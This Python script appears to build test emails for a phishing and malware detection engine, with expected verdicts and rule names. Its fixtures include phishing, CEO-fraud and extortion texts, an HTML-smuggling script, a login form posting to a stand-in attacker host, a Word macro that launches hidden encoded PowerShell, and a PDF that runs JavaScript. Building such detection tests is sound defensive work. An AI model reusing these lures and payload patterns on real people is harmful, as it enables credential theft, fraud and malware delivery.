#!/usr/bin/env python3
"""tests/detect/mkdata.py: write the team's test mail to tests/detect/data/.

Every message is written here, by hand, for one behaviour of the engine;
binary parts (zip, OOXML, PDF, QR code PNG) are built by this script so
that nothing opaque is committed.  Japanese mail is encoded the way mail
programs send it: ISO-2022-JP (with NEC special characters, as Windows
sends them), Shift_JIS in base64, EUC-JP in 8 bits, UTF-8 in quoted-
printable.  Run it again after a change (needs python3 and qrencode); the
output is deterministic.  expect.txt pins the verdict and rules of each.
"""
import base64
import io
import os
import quopri
import subprocess
import zipfile

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data")
DATE = "Mon, 02 Nov 2026 09:30:00 +0900"
EXPECT = []


def write(name, data, verdict, *rules):
    if isinstance(data, str):
        data = data.encode("utf-8")
    data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    EXPECT.append("%s %s %s" % (name, verdict, " ".join(rules)))


def b64(data, width=76):
    s = base64.b64encode(data).decode()
    return "\n".join(s[i:i + width] for i in range(0, len(s), width))


def zipbytes(files, comp=zipfile.ZIP_DEFLATED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", comp) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=(2026, 11, 2, 9, 30, 0))
            zi.compress_type = comp
            z.writestr(zi, data)
    return bio.getvalue()


def sjis_to_jis(b):
    """CP932 bytes to ISO-2022-JP (NEC rows kept, as Windows does)."""
    out = bytearray()
    mode = "ascii"
    i = 0
    while i < len(b):
        c = b[i]
        if c < 0x80:
            if mode != "ascii":
                out += b"\x1b(B"
                mode = "ascii"
            out.append(c)
            i += 1
            continue
        s1, s2 = c, b[i + 1]
        if s1 >= 0xe0:
            s1 -= 0x40
        j1 = (s1 - 0x81) * 2 + 0x21
        if s2 >= 0x9f:
            j1 += 1
            j2 = s2 - 0x9f + 0x21
        else:
            j2 = s2 - 0x40 + 0x21 - (1 if s2 >= 0x80 else 0)
        if mode != "jis":
            out += b"\x1b$B"
            mode = "jis"
        out += bytes([j1, j2])
        i += 2
    if mode != "ascii":
        out += b"\x1b(B"
    return bytes(out)


def jis(text):
    return b"\n".join(sjis_to_jis(l.encode("cp932"))
                      for l in text.split("\n"))


def ew(unused, charset, raw):
    """An RFC 2047 encoded word of raw bytes in charset."""
    return "=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode())


def headers(frm, subject, extra=""):
    mid = sum(ord(c) * (i + 1) for i, c in enumerate(subject)) % 10**9
    return ("From: %s\nTo: taro.yamada@contoso.com\nSubject: %s\n"
            "Date: %s\nMessage-ID: <%d@mail.test>\nMIME-Version: 1.0\n%s"
            % (frm, subject, DATE, mid, extra))


def main():
    os.makedirs(OUT, exist_ok=True)

    # A comma in a quoted name is well-formed (sender.several_from not).
    write("en-01-clean-plain.eml", headers(
        '"Brown, Alice" <alice@fabrikam.com>',
        "Minutes of Tuesday's meeting") +
        "Content-Type: text/plain; charset=us-ascii\n\n"
        "Hi Taro,\n\nThe minutes are on our wiki as usual:\n"
        "https://wiki.fabrikam.com/meetings/2026-11-01\n\n"
        "Next meeting is on Thursday at 10:00.\n\nAlice\n", "clean")

    write("en-02-phish-microsoft.eml", headers(
        '"Microsoft account team" <no-reply@account-security-mail.top>',
        "Unusual sign-in activity") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>We detected unusual sign-in activity on your "
        "Microsoft account.</p><p>Verify your account within 24 hours or "
        "it will be suspended.</p>"
        '<p><a href="https://micros0ft-login.com/verify?id=8812">'
        "https://account.microsoft.com/security</a></p>"
        "<p>The Microsoft account team</p></body></html>\n",
        "threat", "sender.display_brand", "url.lookalike_brand",
        "url.text_mismatch_brand", "content.credential_urgent")

    write("en-03-bec-giftcard.eml", headers(
        '"John Smith CEO" <john.smith.ceo.office@gmail.com>',
        "Quick favor") + "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi Taro,\n\nAre you available? I'm in a meeting and can't talk.\n"
        "I need you to purchase some gift cards for a client today, "
        "Apple gift cards, 5 x $200.\nScratch off the back and send me "
        "the codes by email.\n\nJohn Smith\nCEO\n",
        "threat", "content.gift_card", "sender.freemail_executive",
        "sender.display_person")

    write("en-04-bec-bankchange.eml", headers(
        "Accounts Receivable <ar@fabrikam-billing.com>",
        "Updated banking information",
        "Reply-To: fabrikam.ar.dept@outlook.com\n") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Dear customer,\n\nPlease note that our bank details have changed. "
        "Kindly remit payment to our new bank account for invoice "
        "INV-20931 below:\n\nIBAN: GB33 BUKB 2020 1555 5555 55\n"
        "SWIFT code: BUKBGB22\n\nThis is urgent, the old account is "
        "currently under audit.\n\nRegards,\nAccounts Receivable\n",
        "threat", "content.payment_change", "sender.replyto_freemail",
        "sender.name_in_domain")

    write("en-05-extortion.eml", headers(
        "<hacker@anon-mailer.net>", "Your account was hacked") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "I have access to your device. I infected your computer with "
        "spyware and recorded a video of you through your webcam while "
        "you were visiting adult websites.\nTransfer $1500 in Bitcoin to "
        "this bitcoin address: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n"
        "You have 48 hours. If I do not receive the payment, I will send "
        "the video to all your contacts. If you pay, I will delete the "
        "video.\n", "threat", "content.extortion")

    pe = (b"MZ" + b"\x90\x00" * 29 + b"\x00\x00" + b"\x40\x00\x00\x00" +
          b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200)
    z = zipbytes([("Invoice_2024.pdf.exe", pe)])
    write("en-06-zip-exe.eml", headers(
        "Billing <billing@invoices-portal.xyz>", "Invoice 2024-11") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nPlease find the "
        "invoice attached.\n\n--b1\nContent-Type: application/zip; "
        'name="Invoice_2024.zip"\nContent-Disposition: attachment; '
        'filename="Invoice_2024.zip"\nContent-Transfer-Encoding: base64\n\n'
        + b64(z) + "\n--b1--\n", "threat", "attach.executable",
        "attach.double_extension")

    smuggle = (
        "<html><body><script>\nvar d = atob('UEsDBBQAAAAIAAAAIQ" +
        "A" * 64 + "');\nvar a = new Uint8Array(d.length);\n"
        "for (var i = 0; i < d.length; i++) a[i] = d.charCodeAt(i);\n"
        "var b = new Blob([a], {type: 'application/zip'});\n"
        "var l = document.createElement('a');\n"
        "l.href = URL.createObjectURL(b);\nl.download = 'document.zip';\n"
        "document.body.appendChild(l); l.click();\n</script>"
        "<p>Loading your document...</p></body></html>\n")
    write("en-07-html-smuggling.eml", headers(
        "Scanner <scanner@docs-delivery.click>", "Scanned document") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nYour scanned document "
        "is attached.\n\n--b1\nContent-Type: text/html; "
        'name="Scan_0931.html"\nContent-Disposition: attachment; '
        'filename="Scan_0931.html"\nContent-Transfer-Encoding: base64\n\n'
        + b64(smuggle.encode()) + "\n--b1--\n", "threat",
        "attach.html_smuggling", "yara.html_smuggling_blob")

    cred = ("<html><head><title>Sign in to your account</title></head>"
            "<body><h2>Microsoft 365</h2><p>Your session expired. Sign in "
            "to view the shared file.</p>"
            '<form method="post" action="https://collect.evil-forms.top/next.php">'
            '<input type="email" name="login" value="taro.yamada@contoso.com">'
            '<input type="password" name="passwd">'
            '<button type="submit">Sign in</button></form></body></html>\n')
    write("en-08-html-credform.eml", headers(
        "SharePoint <share@files-share-notify.top>",
        "Taro Yamada shared \"Q4 salaries.xlsx\" with you") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nOpen the attached "
        "file to view the document.\n\n--b1\nContent-Type: text/html; "
        'name="Q4_salaries.htm"\nContent-Disposition: attachment; '
        'filename="Q4_salaries.htm"\nContent-Transfer-Encoding: base64\n\n'
        + b64(cred.encode()) + "\n--b1--\n", "threat",
        "attach.html_credential_form", "sender.display_brand")

    docm = zipbytes([
        ("[Content_Types].xml",
         '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
         '.org/package/2006/content-types"><Override PartName="/word/'
         'document.xml" ContentType="application/vnd.ms-word.document.'
         'macroEnabled.main+xml"/></Types>'),
        ("word/document.xml", "<w:document><w:body><w:p><w:r><w:t>Enable "
         "content to see this document.</w:t></w:r></w:p></w:body>"
         "</w:document>"),
        ("word/vbaProject.bin",
         b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 +
         b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n"
         b"  Set s = CreateObject(\"WScript.Shell\")\r\n"
         b"  s.Run \"powershell -nop -w hidden -e SQBFAFgA\"\r\nEnd Sub\r\n"),
    ])
    write("en-09-docm-macro.eml", headers(
        "HR <hr@payroll-update.info>", "Salary review 2027") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nPlease review the "
        "attached document and enable editing.\n\n--b1\n"
        "Content-Type: application/vnd.ms-word.document.macroEnabled.12; "
        'name="Salary_review.docm"\nContent-Disposition: attachment; '
        'filename="Salary_review.docm"\nContent-Transfer-Encoding: base64\n\n'
        + b64(docm) + "\n--b1--\n", "threat", "attach.macro",
        "yara.maldoc_autoexec_shell")

    qr = subprocess.run(
        ["qrencode", "-o", "-", "-t", "PNG", "-s", "6", "-m", "4",
         "https://mfa-reset.mailbox-verify.top/v?u=taro.yamada"],
        stdout=subprocess.PIPE, check=True).stdout
    write("en-10-qr.eml", headers(
        "IT Service Desk <it-desk@mfa-notice.top>",
        "Action required: re-enable two-factor authentication") +
        'Content-Type: multipart/related; boundary="b1"\n\n--b1\n'
        "Content-Type: text/html; charset=utf-8\n\n<html><body>"
        "<p>Your multi-factor authentication expires today. Scan the QR "
        "code below with your phone to keep access to your mailbox.</p>"
        '<img src="cid:qr1@test"></body></html>\n--b1\n'
        'Content-Type: image/png; name="qr.png"\nContent-ID: <qr1@test>\n'
        'Content-Disposition: inline; filename="qr.png"\n'
        "Content-Transfer-Encoding: base64\n\n" + b64(qr) + "\n--b1--\n",
        "threat", "attach.qr_code", "url.risky_tld",
        "content.credential_urgent")

    pdf = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R "
           b"/OpenAction 4 0 R >> endobj\n2 0 obj << /Type /Pages /Kids "
           b"[3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent "
           b"2 0 R /Annots [5 0 R] >> endobj\n4 0 obj << /S /JavaScript "
           b"/JS (app.launchURL\\(\"https://pdf-docs.view-online.top/d\"\\);) "
           b">> endobj\n5 0 obj << /Type /Annot /Subtype /Link /A << /S "
           b"/URI /URI (https://pdf-docs.view-online.top/d) >> >> endobj\n"
           b"trailer << /Root 1 0 R >>\n%%EOF\n")
    write("en-11-pdf-js.eml", headers(
        "Docs <docs@view-online.top>", "Document for signature") +
        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nPlease sign the "
        "attached document.\n\n--b1\nContent-Type: application/pdf; "
        'name="contract.pdf"\nContent-Disposition: attachment; '
        'filename="contract.pdf"\nContent-Transfer-Encoding: base64\n\n'
        + b64(pdf) + "\n--b1--\n", "threat", "attach.pdf_javascript",
        "attach.pdf_link_lure")

    write("en-12-spoof-own.eml",
          "Received: from mail.spoofer.example (203.0.113.9) by "
          "TYCPR01MB0000.jpnprd01.prod.outlook.com\n"
          "Authentication-Results: spf=fail (sender IP is 203.0.113.9) "
          "smtp.mailfrom=contoso.com; dkim=none (message not signed) "
          "header.d=none;dmarc=fail action=oreject "
          "header.from=contoso.com;compauth=fail reason=000\n"
          "Received-SPF: Fail (protection.outlook.com: domain of contoso.com "
          "does not designate 203.0.113.9 as permitted sender)\n" +
          headers("Payroll <payroll@contoso.com>", "Payslip for November") +
          "Content-Type: text/plain; charset=utf-8\n\nYour payslip is ready."
          "\n", "threat", "sender.spoof_own_domain", "auth.dmarc_fail",
          "auth.compauth_fail")

    write("en-13-lookalike-sender.eml", headers(
        "IT Support <it-support@c0ntoso.com>", "Password expiry notice") +
        "Content-Type: text/html; charset=utf-8\n\n<p>Dear "
        "taro.yamada@contoso.com,</p><p>Your password expires today. "
        'Click <a href="https://c0ntoso.com/keep">here</a> to keep your '
        "password.</p>\n", "threat", "sender.lookalike_own",
        "url.lookalike_own", "content.address_greeting")

    write("en-14-idn-homoglyph.eml", headers(
        "PayPal <service@paypal-notice.info>", "Your payment was declined") +
        "Content-Type: text/html; charset=utf-8\n\n<p>Your payment was "
        "declined. Update your payment method:</p><p><a href=\"https://"
        "p\u0430ypal.com/signin\">paypal.com</a></p>\n", "threat",
        "url.lookalike_brand", "sender.display_brand")

    write("en-15-obfuscated.eml", headers(
        "Wallet Support <support@wallet-help.info>",
        "[Wall\u0435t Susp\u0435nded] You may los\u0435 all your ass\u0435ts") +
        "Content-Type: text/plain; charset=utf-8\n\nYour wall\u0435t has "
        "been susp\u0435nded. Validate your wallet with your 12-word "
        "recovery phrase: https://wallet-validate.app-sync.top/\n",
        "threat", "content.obfuscated_text", "content.wallet_phrase")

    write("en-17-clean-newsletter.eml", headers(
        "Northwind Books <news@northwindbooks.com>", "November picks") +
        'Content-Type: multipart/alternative; boundary="b1"\n\n--b1\n'
        "Content-Type: text/plain; charset=utf-8\n\nOur November picks: "
        "https://www.northwindbooks.com/picks/2026-11\n\n--b1\n"
        "Content-Type: text/html; charset=utf-8\n\n<html><body>"
        '<div style="display:none">Five novels for long evenings</div>'
        "<h1>November picks</h1><p>Five novels for long evenings, chosen "
        "by our booksellers.</p>"
        '<a href="https://www.northwindbooks.com/picks/2026-11">'
        '<img src="https://img.northwindbooks.com/nov.jpg" alt="picks">'
        "</a><p>You receive this because you subscribed at "
        "northwindbooks.com. "
        '<a href="https://www.northwindbooks.com/unsubscribe">Unsubscribe'
        "</a></p></body></html>\n--b1--\n", "clean")

    write("en-19-advance-fee.eml", headers(
        '"Barrister James Cole" <jcole.chambers@yahoo.com>',
        "Inheritance of your late relative") +
        "Content-Type: text/plain; charset=utf-8\n\nDear friend,\n\nI am "
        "Barrister James Cole, personal attorney to the late client who "
        "died without next of kin. He left the sum of US$10.5 million "
        "dollars in a dormant account. I seek your consent to present you "
        "as the beneficiary so that the funds can be transferred to you. "
        "Kindly reply with your full name and your phone number.\n\nGod "
        "bless,\nJames Cole\n", "threat", "content.advance_fee")

    write("en-20-brand-freemail.eml", headers(
        "DocuSign <docs.signing2291@gmail.com>", "Please review and sign") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>You have received a document to review and sign."
        "</p><p><a href=\"https://review-docs.example.net/d/4471\">"
        "REVIEW DOCUMENT</a></p></body></html>\n",
        "threat", "sender.display_brand", "sender.brand_freemail",
        "sender.brand_links_elsewhere")

    write("en-21-callback.eml", headers(
        "Billing Department <orders.desk@shopfast-billing.net>",
        "Invoice no. 88120-A: subscription renewed") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Dear customer,\n\nYour yearly subscription has been renewed "
        "successfully and $399.99 will be charged to your card within 24 "
        "hours.\n\nIf you did not authorize this renewal, call us at "
        "+1 (808) 555-0199 to cancel and get a full refund.\n\nBilling "
        "Department\n", "potential", "content.callback")

    write("en-22-crypto-airdrop.eml", headers(
        "Community Team <news@token-drop-community.net>",
        "Claim your XRP share today") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>The community XRP airdrop distribution is live. "
        "Eligible wallets can claim your tokens now:</p>"
        "<p><a href=\"https://xrp-drop.example.org/claim\">Claim now</a>"
        "</p></body></html>\n", "potential", "content.crypto_giveaway")

    write("en-23-display-domain.eml", headers(
        '"Blockchain.com" <infoewb@energy-supplier.net>',
        "Your wallet has been temporarily suspended") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "A new device was used to access your wallet. Open the app to "
        "check it.\n", "threat", "sender.display_address_brand",
        "sender.display_brand")

    write("en-24-donation-freemail.eml", headers(
        "Albert Kone <albert.kone.fdn@gmail.com>", "Hello") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Mr. Albert Kone has donated $ 3,500,000.00 USD to you for the "
        "purpose of charity. Contact albert.kone.fdn@gmail.com for how to "
        "receive your donation.\n", "threat", "content.advance_fee")

    # Three ways of hiding who sends it and what it says: a threat.
    write("en-27-image-only.eml", headers(
        "Gewinner Team, <news@promo-mailer.net>", "Ihr Gutschein wartet") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><body><a href="https://gutschein-gewinn.example.org/c?id=7">'
        '<img src="https://i.imgur.com/Hr5TM3Y.png"></a></body></html>\n',
        "threat", "html.image_only", "sender.several_from",
        "url.image_hosting")

    write("en-28-brand-domain-hosting.eml", headers(
        "PayPal <service@paypal.com>", "Your account access is limited") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>We noticed unusual activity. Your account has been "
        "limited until you confirm your identity.</p>"
        '<p><a href="https://pp-review-4471.web.app/login">Confirm now</a>'
        "</p></body></html>\n", "threat", "sender.brand_domain_hosting",
        "url.free_hosting", "content.credential_request")

    write("en-29-brand-lure.eml", headers(
        "Parcel Service <tracking@parcel-status-center.net>",
        "DHL: your parcel could not be delivered") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>DHL Express</p><p>Your parcel could not be "
        "delivered: a customs fee of 2.99 EUR is due. Schedule delivery "
        'here:</p><p><a href="https://dhl-redelivery.parcel-status-center'
        '.net/pay">Schedule delivery</a></p></body></html>\n',
        "threat", "content.delivery_lure", "content.brand_links_elsewhere",
        "content.brand_subject")

    # Legitimate mail that looks a little like the above.
    write("en-25-clean-site-newsletter.eml", headers(
        "Comics.com <newsletter@mailer.example-media.net>",
        "Today's strips") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Today's strips are up: https://www.comics.com/today\n\n"
        "To stop these mails, reply with 'remove'.\n", "clean")

    write("en-26-clean-receipt.eml", headers(
        "Fabrikam Store <orders@store.fabrikam.com>",
        "Your subscription has been renewed") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hello Taro,\n\nYour yearly subscription has been renewed and "
        "$49.00 will be charged to your card on file. Manage it at "
        "https://store.fabrikam.com/account\n\nIf you did not authorize "
        "this renewal, call us at +1 (425) 555-0100 to cancel.\n", "clean")

    # --- Japanese ---
    subj = "【重要】Amazonアカウントの確認のお願い"
    body = ("Amazonをご利用いただきありがとうございます。\n"
            "お客様のアカウントで不審なログインが検出されました。\n"
            "24時間以内にアカウントを確認しない場合、ご利用を一時停止させて"
            "いただきます。\n① 下記のリンクからログインしてください\n"
            "② お支払い方法を更新してください\n"
            "https://amazon-co-jp.account-check.top/signin\n"
            "Amazon カスタマーサービス\n")
    write("ja-01-phish-amazon-iso2022jp.eml",
          ("From: %s <info@amazon-jp-support.top>\n" %
           ew(None, "ISO-2022-JP", jis("Amazon.co.jp"))).encode() +
          ("To: taro.yamada@contoso.com\nSubject: %s\nDate: %s\n"
           "Message-ID: <ja01@mail.test>\nMIME-Version: 1.0\n"
           "Content-Type: text/plain; charset=ISO-2022-JP\n"
           "Content-Transfer-Encoding: 7bit\n\n" %
           (ew(None, "ISO-2022-JP", jis(subj)), DATE)).encode() +
          jis(body) + b"\n", "threat", "sender.display_brand",
          "content.credential_urgent", "content.brand_subject")

    subj = "至急のお願い"
    body = ("山田さん\n\nお疲れ様です。今対応できますか。\n"
            "取引先への支払いの件で、振込先の変更がありました。\n"
            "本日中に下記の新しい口座へ送金をお願いします。\n"
            "この件は内密にお願いします。会議中のためメールで連絡ください。\n\n"
            "代表取締役社長 鈴木一郎\n")
    write("ja-02-bec-sjis.eml",
          ("From: %s <ichiro.suzuki.office@gmail.com>\n" %
           ew(None, "Shift_JIS", "代表取締役社長 鈴木一郎".encode("cp932"))) +
          ("To: taro.yamada@contoso.com\nSubject: %s\nDate: %s\n"
           "Message-ID: <ja02@mail.test>\nMIME-Version: 1.0\n"
           "Content-Type: text/plain; charset=Shift_JIS\n"
           "Content-Transfer-Encoding: base64\n\n%s\n" %
           (ew(None, "Shift_JIS", subj.encode("cp932")), DATE,
            b64(body.encode("cp932")))), "threat",
          "content.payment_change", "sender.freemail_executive",
          "content.wire_urgent")

    subj = "定例会議の議事録"
    body = ("山田様\n\n先日の定例会議の議事録を共有いたします。\n"
            "次回は11月10日（火）10時から第2会議室で行います。\n"
            "ご確認のほどよろしくお願いいたします。\n\n総務部 佐藤\n")
    write("ja-03-clean-eucjp.eml",
          ("From: =?EUC-JP?B?%s?= <sato@fabrikam.com>\nTo: "
           "taro.yamada@contoso.com\nSubject: =?EUC-JP?B?%s?=\nDate: %s\n"
           "Message-ID: <ja03@mail.test>\nMIME-Version: 1.0\n"
           "Content-Type: text/plain; charset=EUC-JP\n"
           "Content-Transfer-Encoding: 8bit\n\n" %
           (base64.b64encode("佐藤花子".encode("euc_jp")).decode(),
            base64.b64encode(subj.encode("euc_jp")).decode(),
            DATE)).encode() + body.encode("euc_jp"), "clean")

    body = ("山田様\n\n先ほどお送りした「見積書.zip」のパスワードを"
            "お知らせします。\n\nパスワード：Xk7pQ2mZ\n\n"
            "よろしくお願いいたします。\n")
    write("ja-04-ppap-password-utf8.eml",
          "From: =?UTF-8?B?%s?= <sato@fabrikam.com>\nTo: "
          "taro.yamada@contoso.com\nSubject: =?UTF-8?B?%s?=\nDate: %s\n"
          "Message-ID: <ja04@mail.test>\nMIME-Version: 1.0\n"
          "Content-Type: text/plain; charset=UTF-8\n"
          "Content-Transfer-Encoding: quoted-printable\n\n%s\n" %
          (base64.b64encode("佐藤花子".encode()).decode(),
           base64.b64encode("パスワードのお知らせ".encode()).decode(), DATE,
           quopri.encodestring(body.encode()).decode()), "clean")

    html = ("<html><body><h1>11月のおすすめ</h1><p>今月は秋の新刊を"
            "ご紹介します。</p><p><a href=\"https://www.northwindbooks.co.jp/"
            "picks\">おすすめを見る</a></p><p>配信停止は<a href=\"https://"
            "www.northwindbooks.co.jp/unsubscribe\">こちら</a></p>"
            "</body></html>\n")
    write("ja-05-clean-utf8-newsletter.eml",
          "From: =?UTF-8?B?%s?= <news@northwindbooks.co.jp>\nTo: "
          "taro.yamada@contoso.com\nSubject: =?UTF-8?B?%s?=\nDate: %s\n"
          "Message-ID: <ja05@mail.test>\nMIME-Version: 1.0\n"
          "Content-Type: text/html; charset=UTF-8\n"
          "Content-Transfer-Encoding: quoted-printable\n\n%s\n" %
          (base64.b64encode("ノースウインド書店".encode()).decode(),
           base64.b64encode("11月のおすすめ".encode()).decode(), DATE,
           quopri.encodestring(html.encode()).decode()), "clean")

    body = ("佐川急便より、お荷物のお届けにあがりましたが不在の為"
            "持ち帰りました。\n再配達のご依頼は下記よりお願いします。\n"
            "保管期限を過ぎますと返送されます。\n"
            "http://sagawa-exp.delivery-check.top/redelivery\n")
    write("ja-06-delivery-sjis-nocharset.eml",
          ("From: =?Shift_JIS?B?%s?= <info@sagawa-notice.top>\nTo: "
           "taro.yamada@contoso.com\nSubject: =?Shift_JIS?B?%s?=\n"
           "Date: %s\nMessage-ID: <ja06@mail.test>\nMIME-Version: 1.0\n"
           "Content-Type: text/plain\nContent-Transfer-Encoding: 8bit\n\n" %
           (base64.b64encode("佐川急便".encode("cp932")).decode(),
            base64.b64encode("お荷物のお届けについて".encode("cp932")).decode(),
            DATE)).encode() + body.encode("cp932"), "threat",
          "content.delivery_lure", "sender.display_brand",
          "url.brand_in_host")

    body = ("関係者各位\n\n来週の打ち合わせの資料を添付します。\n"
            "よろしくお願いします。\n")
    write("ja-07-wrong-charset.eml",
          ("From: sato@fabrikam.com\nTo: taro.yamada@contoso.com\n"
           "Subject: =?ISO-2022-JP?B?%s?=\nDate: %s\n"
           "Message-ID: <ja07@mail.test>\nMIME-Version: 1.0\n"
           "Content-Type: text/plain; charset=us-ascii\n"
           "Content-Transfer-Encoding: 8bit\n\n" %
           (base64.b64encode(jis("打ち合わせ資料")).decode(), DATE)
           ).encode() + body.encode("euc_jp"), "clean")

    content_samples()
    sender_samples()
    sender2_samples()
    corroboration_samples()
    seeds(docm, z, pdf, qr)

    with open(os.path.join(OUT, "expect.txt"), "w") as f:
        f.write("# file verdict rules...: written by tests/detect/mkdata.py"
                "\n# (engine: own domain contoso.com, correspondent "
                "fabrikam.com, person \"John Smith\")\n")
        f.write("\n".join(EXPECT) + "\n")


def content_samples():
    """Unwanted offers, account alerts in Portuguese, callback numbers."""
    write("en-30-adult-dating.eml", headers(
        "Lonely Katya <katya.meets@heart-match.example>",
        "I am so lonely tonight") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Hi! I saw your profile and I am looking for a "
        "casual sex date, no strings.</p><p>Hot singles are waiting near "
        "you: <a href=\"https://heart-match.example/join\">see profiles"
        "</a></p></body></html>\n", "potential", "content.adult")

    # The sender's name carries half of the offer.
    write("en-31-health-offer.eml", headers(
        '"Viagra/Cialis from $0.40" <orders.pharm@medsdirect-shop.example>',
        "Your discount is waiting") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Dear customer,\n\nAll medications without prescription, "
        "delivered discreetly. Levitra $0.99 per pill.\n\n"
        "https://medsdirect-shop.example/order\n", "potential",
        "content.health_offer")

    write("en-32-gambling.eml", headers(
        "Royal Spin <vip@royal-spin-club.example>",
        "400% welcome bonus and 100 free spins") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><h1>Royal Spin Casino</h1><p>Make your first deposit "
        "today and we triple it, plus free spins on every slot.</p>"
        "<p><a href=\"https://royal-spin-club.example/play\">Play now</a>"
        "</p></body></html>\n", "potential", "content.gambling")

    write("en-33-crime-shop.eml", headers(
        "Shop Update <news@toolbox-market.example>",
        "New stock: RDPs, cPanels, SMTPs") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Fresh stock in our shop today: RDPs from every country, cPanels "
        "and shells, SMTPs and webmails for your mailers, verified "
        "leads, fullz. Pay in crypto.\n", "potential", "content.crime_shop")

    # Outlook would link the address written out in the HTML text.
    write("pt-01-account-alert.eml", headers(
        "Central de Seguranca <alerta.conta2024@hotmail.com>",
        "Alerta de seguranca: novo acesso a sua conta") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Detectamos um novo acesso à sua conta a partir de "
        "um novo dispositivo.</p><p>Não reconhece este acesso? Entre com "
        "seu e-mail e senha para verificar:</p>"
        "<p>https://conta-verificacao.example/login</p></body></html>\n",
        "potential", "content.credential_request")

    write("en-34-callback-spaced.eml", headers(
        "Billing Dept <billing.dept.desk@gmail.com>",
        "Order AX-2231 confirmed") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your membership has been renewed and $449.99 will be charged "
        "today. To cancel and claim a refund, you can reach us on\n"
        "+1 \u2013 (808) - (555) - (0142)\n", "potential",
        "content.callback")

    write("en-36-police-summons.eml", headers(
        "Cybercrime Unit <cyber.unit.office@outlook.com>",
        "Summons: case 2291/26") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "You are summoned to answer charges of child pornography found by "
        "the Europol cybercrime unit. Read the summons and reply within 72 "
        "hours, or an arrest warrant will be issued:\n"
        "https://case-files-2291.example/summons\n", "potential",
        "content.legal_threat")

    # Underscores for spaces, as such subjects come.
    write("en-37-money-bait.eml", headers(
        "Laura Benton <laura.benton.earn77@gmail.com>",
        "Your_balance_has_been_credited_+$12,480") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your account on our automated earning platform has been credited "
        "with $12,480. You have 24 hours to withdraw your balance before "
        "it is returned:\nhttps://drive.google.com/file/d/1x2y3z4w5v/"
        "view\n", "threat", "content.money_bait", "url.free_hosting")

    # No link: the way in is another address to write to.
    write("en-38-romance.eml", headers(
        "Olena <support@garden-tools-shop.example>",
        "Good evening, how have you been?") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hi! I am a single charming woman from Kyiv, looking for a kind "
        "man. Where are you from and how old are you? I will send you my "
        "photo, write me at olena.kind.heart@gmail.com\n", "potential",
        "content.adult")

    write("ja-08-casino-utf8.eml", headers(
        "=?UTF-8?B?%s?= <info@lucky-spin-jp.example>" % base64.b64encode(
            "ラッキースピン".encode()).decode(),
        "=?UTF-8?B?%s?=" % base64.b64encode(
            "入金不要ボーナス3000円プレゼント".encode()).decode()) +
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n\n"
        "オンラインカジノ「ラッキースピン」に今すぐ登録して、"
        "入金不要ボーナスとフリースピン50回を受け取りましょう。\n"
        "https://lucky-spin-jp.example/start\n", "potential",
        "content.gambling")

    # A brand relaying its users' links (a deploy preview in a pull
    # request) links to itself too: not a forged brand.
    write("en-39-clean-github-preview.eml", headers(
        "octo-dev <notifications@github.com>",
        "Re: [tailspin/web] Update the pricing page (PR #212)") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Deploy preview ready: https://deploy-preview-212--tailspin-web."
        "netlify.app/pricing\n\n-- \nReply to this email directly or "
        "view it on GitHub:\nhttps://github.com/tailspin/web/pull/212\n",
        "clean")

    # Words of the trades in passing are not an offer.
    write("en-35-clean-casino-news.eml", headers(
        "Weekly Tech Digest <digest@fabrikam.com>",
        "This week: odds, poker bots and a lucky bug") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "A researcher showed a poker bot that keeps winning against "
        "casual players; a lucky find in a lottery app's random numbers; "
        "and why a casino's loyalty app leaked its users' data.\n\n"
        "Read more: https://www.fabrikam.com/digest/42\n", "clean")


def seeds(docm, zipexe, pdf, png):
    """Seed corpora of the fuzz targets (tests/fuzz/corpus/detect_*)."""
    import gzip
